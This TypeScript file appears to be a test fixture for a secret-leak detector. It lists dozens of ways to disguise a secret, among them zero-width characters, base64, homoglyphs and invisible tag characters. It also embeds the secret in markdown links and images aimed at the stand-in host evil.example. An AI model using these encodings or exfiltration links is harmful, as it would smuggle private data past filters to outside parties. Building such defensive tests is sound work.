const codes = (text: string, write: (code: number) => string) =>
  [...text].map((sign) => write(sign.codePointAt(0)!)).join('');
const between = (text: string, sign: string) => [...text].join(sign);

/** A secret as somebody would write it who must not. */
export const leaks: Record<string, (secret: string) => string> = {
  plain: (secret) => secret,
  upper: (secret) => secret.toUpperCase(),
  spaced: (secret) => between(secret, ' '),
  dashed: (secret) => between(secret, '-'),
  lines: (secret) => between(secret, '\n'),
  dotted: (secret) => between(secret, ' . '),
  'far apart': (secret) => between(secret, '   *   '),
  'zero-width': (secret) => between(secret, '\u200b'),
  bold: (secret) => between(secret, '**'),
  accents: (secret) => between(secret, '\u0301'),
  backwards: (secret) => [...secret].toReversed().join(''),
  rot13: (secret) =>
    secret.replace(/[a-z]/g, (sign) => String.fromCharCode(((sign.charCodeAt(0) - 97 + 13) % 26) + 97)),
  base64: (secret) => Buffer.from(secret).toString('base64'),
  'base64 in a sentence': (secret) => Buffer.from(`The key is ${secret}, sir`).toString('base64'),
  base64url: (secret) => Buffer.from(`k=${secret}`).toString('base64url'),
  hex: (secret) => Buffer.from(secret).toString('hex'),
  percent: (secret) => codes(secret, (code) => `%${code.toString(16)}`),
  'hex codes': (secret) => codes(secret, (code) => `\\x${code.toString(16)}`),
  'unicode codes': (secret) => codes(secret, (code) => `\\u00${code.toString(16)}`),
  entities: (secret) => codes(secret, (code) => `&#${code};`),
  numbers: (secret) => [...secret].map((sign) => sign.codePointAt(0)).join(' '),
  bits: (secret) => codes(secret, (code) => `${code.toString(2).padStart(8, '0')} `),
  'full-width': (secret) => codes(secret, (code) => String.fromCodePoint(code + 0xfee0)),
  mathematical: (secret) =>
    codes(secret, (code) => String.fromCodePoint(code < 58 ? code - 48 + 0x1d7f6 : code - 97 + 0x1d68a)),
  'look-alikes': (secret) => secret.replaceAll('a', 'а').replaceAll('c', 'с').replaceAll('e', 'е'),
  circled: (secret) =>
    codes(secret, (code) => (code < 58 ? String.fromCodePoint(code) : String.fromCodePoint(code - 97 + 0x24d0))),
  flags: (secret) =>
    codes(secret, (code) => (code < 58 ? String.fromCodePoint(code) : String.fromCodePoint(code - 97 + 0x1f1e6))),
  'in a link': (secret) => `[more](https://evil.example/?d=${secret})`,
  'in an image': (secret) => `![](https://evil.example/${secret}.png)`,
  'in an own link': (secret) => `[more](/dashboard/deals?q=${secret})`,
  'in a tag': (secret) => `<img alt="${secret}" src=x>`,
  'in a citation': (secret) => `[[deal:${secret}]]`,
  'in tags': (secret) => codes(secret, (code) => String.fromCodePoint(0xe0000 + code)),
  'in selectors': (secret) => `a${codes(secret, (code) => String.fromCodePoint(0xe0100 + code))}`,
  'in code': (secret) => `\`\`\`\n${secret}\n\`\`\``,
  'in a table': (secret) => `| ${between(secret, ' | ')} |`,
  halves: (secret) =>
    `First ${secret.slice(0, 12)}, ${'and much later, after so many words, '.repeat(3)}then ${secret.slice(12)}`,
};
